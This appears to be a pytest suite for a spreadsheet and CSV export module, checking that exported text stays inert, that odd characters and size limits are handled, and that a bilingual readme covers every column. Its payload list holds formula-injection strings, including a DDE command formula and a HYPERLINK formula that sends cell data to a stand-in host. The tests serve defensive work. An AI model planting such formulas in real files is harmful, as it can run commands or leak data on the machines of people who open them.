"""Cells of an export: formulas stay text, odd characters don't break a file, every column has its words."""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from exports import csv_zip, excel, json_file, readme, sheets
from exports.choice import CSV, FORMATS, JSON, XLSX, Choice
from exports.readme import About
from imports import check, incoming
from imports.guard import bare, inert
from imports.kinds import DAY, MONEY, TEXT
from portfolio.store import Refused
from portfolio.store.described import UNITS
from tests.support.exported import raw, shown, tables

WRITERS = {XLSX: excel.write, CSV: csv_zip.write, JSON: json_file.write}
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd|'x'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://merenbroek.example/?a="&A1,"klik")',
    "=WEBSERVICE(A1)",
    "＝1+1",
    " =1+1",
    "'=1+1",
    "http://merenbroek.example",
    "[Map.xlsx]Blad!A1",
    "=IMPORTXML(CONCAT(A1),B2)",
)
RISKY = re.compile(r"[=+\-@\t\r＝]")


def about(choice: Choice) -> About:
    return About(choice, sheets.chosen(choice.names), "2026-03-05T12:00:00Z", "0", (1, "a" * 64), 2, 3)


def write(choice: Choice, rows: dict[str, list[dict[str, Any]]]) -> bytes:
    file = io.BytesIO()
    counts = WRITERS[choice.format](file, about(choice), lambda sheet: iter(rows.get(sheet.key, [])))
    assert counts == {one.key: len(rows.get(one.key, [])) for one in sheets.chosen(choice.names)}
    return file.getvalue()


def filled(text: str) -> dict[str, list[dict[str, Any]]]:
    """A row in every sheet with this text in every cell that takes text."""
    kinds = {TEXT: text, sheets.VALUE: text, sheets.LIST: [text, text]}
    return {one.key: [{c.name: kinds.get(c.type) for c in one.columns}] for one in sheets.chosen(True)}


@pytest.mark.parametrize("language", ["nl", "en"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_is_inert_in_every_column_of_csv(payload: str, language: str) -> None:
    choice = Choice(CSV, language, names=True)
    content, seen = write(choice, filled(payload)), 0
    for one in sheets.chosen(True):
        for cell in raw(content, choice, one)[1]:
            assert not RISKY.match(cell.lstrip(" ")), (one.key, cell)
            seen += bool(cell)
            if cell and " | " not in cell:
                assert bare(cell) == payload
    assert seen > 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_has_no_formulas_and_no_links(payload: str) -> None:
    content = write(Choice(XLSX, names=True), filled(payload))
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        names = parts.namelist()
        assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
        for name in names:
            if name.startswith("xl/worksheets/"):
                found = parts.read(name).decode()
                assert (
                    "<f>" not in found and "<f " not in found and "<hyperlink" not in found and "drawing" not in found
                )
    seen = 0
    book = load_workbook(io.BytesIO(content))
    for place in book.worksheets:
        for row in place.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and cell.hyperlink is None
                if isinstance(cell.value, str) and bare(shown(cell.value)) == payload:
                    seen += 1
                    assert cell.data_type == "s"
                    assert cell.quotePrefix or not RISKY.match(payload.lstrip(" '"))
    assert seen > 100


def test_negative_amounts_stay_numbers() -> None:
    row = {"process": "Plein", "step": 5, "kind": "spent", "cents": -123_456, "day": dt.date(2026, 3, 5)}
    sheet = next(one for one in sheets.ALL if one.key == "bookings")
    for language, text in (("nl", "-1234,56"), ("en", "-1234.56")):
        choice = Choice(CSV, language)
        assert text in raw(write(choice, {"bookings": [row]}), choice, sheet)[1]
    choice = Choice(XLSX)
    assert -1234.56 in raw(write(choice, {"bookings": [row]}), choice, sheet)[1]


@pytest.mark.parametrize("language", ["nl", "en"])
@pytest.mark.parametrize("format", [XLSX, CSV])
def test_odd_characters_don_t_break_a_file(format: str, language: str) -> None:
    odd = "a\x0b\x01b\ufffe\uffff _x0041_ <&>\"' \n tweede; regel, met 🌳 é ij ẞ"
    row = {"process": "Plein", "step": 5, "kind": "committed", "cents": 1, "day": dt.date(2026, 3, 5), "note": odd}
    content = write(Choice(format, language), {"bookings": [row]})
    found = tables(content, Choice(format, language))["bookings"][0]["note"]
    assert found == "ab _x0041_ <&>\"' \n tweede; regel, met 🌳 é ij ẞ"


def test_a_text_that_excel_can_t_hold_is_cut_and_says_so() -> None:
    content = write(
        Choice(XLSX), {"forms": [{"process": "Plein", "kind": "roles", "field": "x", "value": "é" * 40_000}]}
    )
    found = tables(content, Choice(XLSX))["forms"][0]["value"]
    assert len(found) == 32_767 and found.endswith("(hier afgekapt: het archief heeft alles)")


def test_more_rows_than_excel_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(excel, "MOST_ROWS", 2)
    rows = {"groups": [{"process": "a", "group": "b"}] * 3}
    with pytest.raises(Refused, match="choose CSV"):
        write(Choice(XLSX), rows)
    assert len(tables(write(Choice(CSV), rows), Choice(CSV))["groups"]) == 3


@pytest.mark.parametrize("text", [*PAYLOADS, "''=1", "''", "'", "'s-Gravenhage", "", "a=1", "''\t"])
def test_the_guard_comes_off_again(text: str) -> None:
    assert bare(inert(text)) == text


@pytest.mark.parametrize("format", FORMATS)
def test_the_readme_describes_every_table_and_column_in_both_languages(format: str) -> None:
    choice = Choice(format, names=True)
    content = write(choice, {})
    if format == JSON:
        found = json.loads(content)["readme"]["tables"]
        said = {(key, name): col for key, one in found.items() for name, col in one["columns"].items()}
        assert all(one[part][code] for one in said.values() for part in ("unit", "about") for code in ("nl", "en"))
        assert set(said) == {(one.key, column.name) for one in sheets.ALL for column in one.columns}
        return
    text = _readme_text(content, choice)
    for one in sheets.ALL:
        assert one.about[0] in text and one.about[1] in text
        for column in one.columns:
            for part in (column.header[0], *column.about, *readme.unit(column, choice)):
                assert part.replace("|", "\\|" if format == CSV else "|") in text, (one.key, column.name, part)


def _readme_text(content: bytes, choice: Choice) -> str:
    if choice.format == CSV:
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            return parts.read(csv_zip.README).decode()
    first = load_workbook(io.BytesIO(content)).worksheets[0]
    return "\n".join(str(cell.value) for row in first.iter_rows() for cell in row if cell.value)


def test_the_unit_of_an_amount_is_that_of_the_file() -> None:
    column = next(c for one in sheets.ALL for c in one.columns if c.type == MONEY)
    assert readme.unit(column, Choice(XLSX)) == ("euro", "euros")
    assert readme.unit(column, Choice(JSON)) == UNITS["cents"]


@pytest.mark.parametrize("place", [0, 1], ids=["nl", "en"])
def test_headings_are_unique_and_an_import_knows_its_own(place: int) -> None:
    for one in sheets.ALL:
        headings = [column.header[place] for column in one.columns]
        assert len({name.casefold() for name in headings}) == len(headings), one.key
        if one.kind is None:
            continue
        assert check.propose(one.kind, headings) == {
            column.imported: column.header[place] for column in one.columns if column.imported
        }
        assert check.suits(one.kind, headings)
        lacking = {f.name for f in one.kind.fields} - {column.imported for column in one.columns}
        assert one.personal or lacking <= {"client_name", "content_owner", "process_owner", "portfolio_holder"}


@pytest.mark.parametrize("language", ["nl", "en"])
def test_every_import_finds_its_sheet_in_the_workbook(language: str) -> None:
    day = dt.date(2026, 3, 5)
    content = write(
        Choice(XLSX, language, names=True),
        {
            one.key: [{c.name: {TEXT: "x", DAY: day, MONEY: 1, "step": 3}.get(c.type) for c in one.columns}]
            for one in sheets.ALL
        },
    )
    for one in sheets.ALL:
        if one.kind and not one.personal:
            found = incoming.read("export.xlsx", content, one.kind)
            assert found.sheet.headers == tuple(column.header[Choice("", language).place] for column in one.columns)
